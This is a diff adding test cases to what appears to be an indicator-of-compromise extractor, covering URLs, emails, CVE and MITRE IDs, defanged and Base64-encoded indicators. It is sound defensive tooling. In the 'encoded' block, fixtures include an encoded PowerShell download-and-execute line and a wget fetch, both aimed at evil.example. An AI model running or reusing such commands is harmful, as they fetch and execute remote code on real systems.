@@ -38,6 +38,20 @@ describe('types', () => {
     // One small number is no address, though the URL Standard reads it as one.
     ['http://114/x'],
     ['http://[2001:db8::1]:8080/x', 'url http://[2001:db8::1]:8080/x'],
+    // Without the brackets, with too many, without the scheme.
+    [
+      'http://2001:db8::1/ http://[[2001:db8::2]]/x',
+      'url http://[2001:db8::1]',
+      'url http://[2001:db8::2]/x',
+    ],
+    ['[2001:db8::1]:8080/x [2001:db8::2]/x', 'url http://[2001:db8::1]:8080/x', 'url http://[2001:db8::2]/x'],
+    // Symbols may begin a label, of hosts in emoji; behind one they are no part of it.
+    [
+      'http://\u2605evil.example/a http://\u263a.evil.example',
+      'url http://xn--evil-fh3b.example/a',
+      'url http://xn--74h.evil.example',
+    ],
+    ['http://evil.example\u2192bad.example', 'url http://evil.example', 'domain bad.example'],
     [`${MD5.toUpperCase()} ${SHA1}`, `md5 ${MD5}`, `sha1 ${SHA1}`],
     [`${SHA256} ${SHA512}`, `sha256 ${SHA256}`, `sha512 ${SHA512}`],
     [`${MD5}0 ${SHA256}01`],
@@ -46,6 +60,14 @@ describe('types', () => {
     ['user@[192.0.2.1] user@[IPv6:2001:DB8::1]', 'email user@[192.0.2.1]', 'email user@[2001:db8::1]'],
     ['mailto:user%40evil.example', 'email user@evil.example'],
     ['user@192.0.2.1, ssh root@192.0.2.2', 'email user@192.0.2.1', 'ipv4 192.0.2.2'],
+    // Mailboxes of short names may stand at any address; longer names and small numbers are packages and their versions.
+    ['a@1.1.1.1 admin@1.2.3.4', 'email a@1.1.1.1', 'email admin@1.2.3.4'],
+    // A comment is no part of an address (RFC 5322, 3.2.2).
+    [
+      'john.smith(comment)@evil.example (comment)john@evil.example',
+      'email john.smith@evil.example',
+      'email john@evil.example',
+    ],
     // Schemes that are not of the web: of trackers and miners, shares, and of what loggers were made to fetch.
     [
       'tcp://192.0.2.1:4444 udp://evil.example:1337/a socks5://evil.example:1081',
@@ -62,6 +84,7 @@ describe('types', () => {
     ['192.0.2.1.5555 > 198.51.100.1.80: Flags [S]', 'ipv4 192.0.2.1', 'ipv4 198.51.100.1'],
     ['https://example.com/ip-address/192.0.2.1/x', 'url https://example.com/ip-address/192.0.2.1/x'],
     ['cve\u20132021\u201344228 CVE 2021-44228', 'cve CVE-2021-44228', 'cve CVE-2021-44228'],
+    ['CVE 2021 44228 cve_2021_44228', 'cve CVE-2021-44228', 'cve CVE-2021-44228'],
     [
       'T1059 T1059.001 T1059/003 TA0002',
       'mitre_attack T1059',
@@ -116,6 +139,17 @@ describe('defanged', () => {
       '\uff57\uff57\uff57\uff0e\uff45\uff56\uff49\uff4c\uff0e\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45',
       DOMAIN,
     ],
+    // Escaped with blanks around, as scripts split names; brackets of all kinds and widths; brackets that lost what they held.
+    ['www \\. evil \\. example www\\.evil \\. example', DOMAIN, DOMAIN],
+    ['www.evil  [  .  ]   example www.evil [[ [ dot )]) example', DOMAIN, DOMAIN],
+    ['192()0()2()1 192[]0[]2[]1 evil[]com', 'ipv4 192.0.2.1', 'ipv4 192.0.2.1', 'domain evil.com'],
+    ['user/AT/evil/DOT/example user/at/evil.example', EMAIL, EMAIL],
+    ['user at evil  [[[ dot )]) example', EMAIL],
+    ['userat]evil.example userAT)evil.example', EMAIL, EMAIL],
+    // Whoever brackets a dot means a host, whatever it ends in.
+    ['user@evil [[ . ])] example [.nosuchtld', 'email user@evil.example.nosuchtld'],
+    // Rules of Snort write the lengths of labels, and some signs, as bytes.
+    ['content:"|03|www|04|evil|07|example|00|"; content:"www|2e|evil|2E|example"', DOMAIN, DOMAIN],
     // The log of Windows' DNS server.
     ['(3)www(4)evil(7)example(0)', DOMAIN],
     ['www\u200b.evil\u00ad.exa\u2060mple www\u00a0.\u00a0evil.example', DOMAIN, DOMAIN],
@@ -139,6 +173,30 @@ describe('defanged', () => {
     const [email] = extract('sales @ evil.example');
     expect(email?.value).toBe('sales@evil.example');
     expect(email?.also).toMatchObject([{ type: 'domain', value: 'evil.example' }]);
+  });
+});
+
+describe('encoded', () => {
+  const URL = 'url http://evil.example/a';
+  const utf16 = (text: string) => Array.from(text, (character) => `${character}\0`).join('');
+  table([
+    // At each of the three places that a byte can have in a group of Base64; with and without its padding.
+    ['aHR0cDovL2V2aWwuZXhhbXBsZS9h', URL],
+    [`${btoa('x http://evil.example/a')} ${btoa('xx http://evil.example/a')}`, URL, URL],
+    [btoa('xxx http://evil.example/a ').replaceAll('=', ''), URL],
+    [
+      `powershell -enc ${btoa(utf16("IEX((New-Object Net.WebClient).DownloadString('http://evil.example/a'))"))}`,
+      URL,
+    ],
+    [`0x${Buffer.from('http://evil.example/a').toString('hex')}`, URL],
+    [btoa('no link, but a sign: ://')],
+    ['iTunesMovLibrary'],
+  ]);
+
+  test('it stands where the whole of the code stands', () => {
+    const text = `run ${btoa('wget http://evil.example/a')} now`;
+    const [found] = extract(text);
+    expect(text.slice(found?.start, found?.end)).toBe(btoa('wget http://evil.example/a').replace(/=+$/, ''));
   });
 });
 
@@ -241,9 +299,28 @@ describe('what stays dark', () => {
     ['self.bg self.invalid process.env.CI Browser.CHROME colors.foo'],
     ['import importlib.abc\nfrom package.lexers.web import Lexer\nusing System.Data'],
     ['2.5.4.3 2.5.29.37 1.3.6.1 1.3.101.112 0.7.100.3 list[0::2] list[1::2]'],
+    // Titles of sections, versions after the names of systems, in ranges, of packages, and in the names of products (CPE).
+    ['1.1.1.4 Section Title\n## 3.2.1.1. Introduction to parsing\nFigure 1.2.3.4 shows'],
+    ['FortiOS 7.0.1.2, ~1.2.3.4, >=1.2.3.4, package@1.2.3.4, @scope/package@1.2.3.4'],
+    ['cpe:2.3:a:vendor:product:1.2.3.4:*:*:* cpe:/o:vendor:system:9.1.2.3'],
+    // Members of objects, selectors, packages, and what a name of a variable ends in.
+    ['button.click cluster.fit hello.world my.variable.name conn.host local.name module.vpc.id'],
+    ['obj?.prop.id a.link:hover data.aws_ami.id MARKING_COLORS.red'],
+    ['java.net kotlin.io org.example.commons.io socket.io foo.bar foo.pl'],
+    ['as it.is written, and what.is this'],
+    // How dots are spoken of.
+    ['it should replace [.] by ., and detect {.} defanging'],
+    ['S1100-456'],
   ]);
 
   test.each([
+    // Addresses at the beginning of a line, and what is known of them.
+    ['1.1.1.1 Resolver', '1.1.1.1'],
+    ['9.9.9.10 Resolver of a foundation, which was seen. It answers.', '9.9.9.10'],
+    ['198.51.100.4 Proxy', '198.51.100.4'],
+    ['192.0.2.1 Gateway', '192.0.2.1'],
+    // A range of techniques.
+    ['T1059-2', 'T1059'],
     ['hxxp://setup.zip/a', 'http://setup.zip/a'],
     ['setup[.]zip', 'setup.zip'],
     ['resolve(evil.top)', 'evil.top'],
